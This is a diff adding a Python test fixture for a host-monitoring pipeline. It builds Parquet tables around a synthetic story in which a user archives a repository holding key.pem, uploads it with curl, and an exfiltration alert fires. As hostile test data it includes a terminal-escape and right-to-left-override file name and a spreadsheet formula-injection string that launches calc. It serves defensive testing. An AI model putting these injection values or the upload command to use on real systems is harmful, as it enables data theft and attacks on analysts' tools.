@@ -1,0 +1,215 @@
+"""A small lake with one story: alice logs in from 198.51.100.7, packs a folder and uploads it."""
+
+from __future__ import annotations
+
+import itertools
+from collections.abc import Iterable
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pyarrow as pa
+import pyarrow.parquet as pq
+
+from collector import columns, extract, snapshot
+from collector.snapshot import Snapshot
+from evidence.event import Event
+from evidence.kind import Actor, Body, Endpoint
+from evidence.kinds.agent import Heartbeat, Start
+from evidence.kinds.connection import Close, Open
+from evidence.kinds.file import Read
+from evidence.kinds.login import Accepted, Failed
+from evidence.kinds.process import Ancestor, Exec, Exit
+
+AGENT = "a1" * 16
+BOOT = "3f0c9a52-0000-4000-8000-000000000001"
+HOST = "web-1"
+NOW = 1_800_000_000 * 10**9
+SECOND = 10**9
+SESSION = 7
+SOURCE = "198.51.100.7"
+DESTINATION = "203.0.113.9"
+FINGERPRINT = "SHA256:l5mbwDdDCBDMaEVh1mGcLeKIEiyF7pBGMWPOGOsMLPE"
+UPLOADED = 12_345_678
+ALERT = "c0ffee" + "0" * 58
+EVIL = "\x1b[2Jtmp\x1b]0;owned\x07\u202egpj.exe"
+"""A file name that would clear a terminal, rename its window, and turn its text around."""
+
+SSHD = Ancestor(pid=900, start=90, exe="/usr/sbin/sshd")
+FORKED = Ancestor(pid=1000, start=100, exe="/usr/sbin/sshd")
+BASH = Ancestor(pid=1001, start=101, exe="/usr/bin/bash")
+CURL = Actor(pid=1003, start=103, exe="/usr/bin/curl", uid=1000, auid=1000, session=SESSION)
+_WHO: dict[str, Any] = {"uid": 1000, "auid": 1000, "session": SESSION, "user": "alice", "login": "alice"}
+
+
+def story() -> list[Body]:
+    """Return the bodies in order, a second apart."""
+    remote = Endpoint(ip=DESTINATION, port=443, name="files.example")
+    flow: dict[str, Any] = {
+        "flow": 5,
+        "protocol": "tcp",
+        "direction": "out",
+        "local": Endpoint(ip="192.0.2.10", port=40000),
+        "remote": remote,
+        "actor": CURL,
+    }
+    return [
+        Start(version="0.1.0", host=HOST, clean=True),
+        Failed(program="sshd", user="root", source=Endpoint(ip="198.51.100.99", port=1), known=True),
+        Accepted(
+            program="sshd",
+            user="alice",
+            pid=1000,
+            session=SESSION,
+            auid=1000,
+            method="publickey",
+            fingerprint=FINGERPRINT,
+            source=Endpoint(ip=SOURCE, port=50022),
+        ),
+        _exec(1001, 101, FORKED, ("-bash",), "/usr/bin/bash", ancestry=(FORKED, SSHD)),
+        _exec(1002, 102, BASH, ("tar", "czf", "/srv/s.tgz", "/srv/repo"), "/usr/bin/tar"),
+        Read(path="/srv/repo/key.pem", tree="/srv/repo", files=3, opens=9, actor=_actor(1002, 102)),
+        Exit(pid=1002, start=102, exe="/usr/bin/tar", code=0, duration=3 * SECOND, session=SESSION),
+        _exec(1003, 103, BASH, ("curl", "-T", "/srv/s.tgz", "https://files.example/"), "/usr/bin/curl"),
+        Open(**flow),
+        Close(**flow, bytes_out=UPLOADED, bytes_in=4321, duration=2 * SECOND),
+        _exec(1004, 104, BASH, ("touch", EVIL), "/usr/bin/touch"),
+        _exec(1005, 105, BASH, ("=cmd|' /C calc'!A0",), "=HYPERLINK(1)"),
+        Heartbeat(events=12, interval=60.0, sensors={"process": "bpf"}),
+    ]
+
+
+def _exec(
+    pid: int,
+    start: int,
+    parent: Ancestor,
+    argv: tuple[str, ...],
+    exe: str,
+    *,
+    ancestry: tuple[Ancestor, ...] = (BASH, FORKED, SSHD),
+) -> Exec:
+    return Exec(
+        pid=pid,
+        start=start,
+        ppid=parent.pid,
+        parent_start=parent.start,
+        exe=exe,
+        argv=argv,
+        ancestry=ancestry,
+        **_WHO,
+    )
+
+
+def _actor(pid: int, start: int) -> Actor:
+    return Actor(pid=pid, start=start, exe="/usr/bin/tar", uid=1000, auid=1000, session=SESSION)
+
+
+def rows(bodies: Iterable[Body], *, agent: str = AGENT, host: str = HOST, first: int = 1) -> pa.Table:
+    """Return bodies as rows of the lake, a second apart and all before NOW."""
+    numbered = list(zip(itertools.count(first), bodies, strict=False))
+    begin = NOW - 60 * SECOND
+    events: list[Event[Any]] = [
+        Event(seq, begin + seq * SECOND, seq * SECOND, body) for seq, body in numbered
+    ]
+    order, found = extract.event_columns(events)
+    made: list[dict[str, Any]] = []
+    for at in order:
+        event = events[at]
+        session = getattr(event.body, "session", None) or getattr(
+            getattr(event.body, "actor", None), "session", None
+        )
+        person = {"person": "alice", "how": "kernel", "person_source": SOURCE} if session == SESSION else {}
+        made.append(
+            {
+                "agent": agent,
+                "epoch": 1,
+                "boot": BOOT,
+                "host": host,
+                "ledger_index": 4 if event.seq < 8 else 5,
+                "lane": "bulk",
+                "received": event.time + SECOND,
+                "contested": False,
+                "body": msgspec.json.encode(event.body).decode(),
+                **person,
+            }
+        )
+    table = pa.Table.from_pylist(made, columns.schema("events"))
+    for name, values in found.items():
+        if values.null_count < len(values):
+            table = table.set_column(table.schema.get_field_index(name), name, values)
+    return table.sort_by("seq")
+
+
+def alert_row(number: int = 0, detected: int = NOW - 40 * SECOND, severity: str = "high") -> dict[str, Any]:
+    """Return an alert about the upload."""
+    return {
+        "id": ALERT if number == 0 else f"{number:064x}",
+        "rule": "upload_by_login",
+        "version": 1,
+        "severity": severity,
+        "title": "Upload by an interactive login",
+        "summary": f"alice sent 12.3 MB to {DESTINATION}",
+        "time": NOW - 50 * SECOND,
+        "detected": detected,
+        "agent": AGENT,
+        "host": HOST,
+        "person": "alice",
+        "how": "kernel",
+        "session": SESSION,
+        "person_source": SOURCE,
+        "fingerprint": FINGERPRINT,
+        "destination": f"{DESTINATION}:443",
+        "bytes_out": UPLOADED,
+        "evidence": [f"{AGENT}:1:{seq}" for seq in (3, 5, 10)],
+        "attack": ["T1048"],
+        "details": '{"program":"curl"}',
+    }
+
+
+def batch_row(seq: int) -> dict[str, Any]:
+    """Return one batch of the bulk lane."""
+    return {
+        "agent": AGENT,
+        "epoch": 1,
+        "lane": "bulk",
+        "seq": seq,
+        "digest": f"{seq:064x}",
+        "ledger_index": seq + 3,
+        "entry": "batch",
+        "events": 7,
+        "stored": 7,
+        "state": "decoded",
+        "received": NOW - 30 * SECOND,
+        "sent": NOW - 31 * SECOND,
+        "boot": BOOT,
+        "version": "0.1.0",
+        "contested": False,
+    }
+
+
+class Lake:
+    """Parquet files and a snapshot of them, as the pipeline leaves them."""
+
+    def __init__(self, folder: Path) -> None:
+        self.snapshot = folder / "snapshot.json"
+        self._folder = folder
+        self._tables: dict[str, tuple[str, ...]] = {}
+        self._number = 0
+
+    def add(self, name: columns.TableName, table: pa.Table | list[dict[str, Any]]) -> None:
+        """Add rows to a table of the lake, and tell readers."""
+        made = table if isinstance(table, pa.Table) else pa.Table.from_pylist(table, columns.schema(name))
+        self._number += 1
+        path = self._folder / f"{name}-{self._number}.parquet"
+        pq.write_table(made, path)
+        self._tables[name] = (*self._tables.get(name, ()), str(path))
+        snapshot.write(self.snapshot, Snapshot(self._number, self._number, NOW, dict(self._tables)))
+
+
+def make(folder: Path) -> Lake:
+    """Return a lake with the story, its alert, and its batches."""
+    lake = Lake(folder)
+    lake.add("events", rows(story()))
+    lake.add("alerts", [alert_row()])
+    lake.add("batches", [batch_row(1), batch_row(2)])
+    return lake
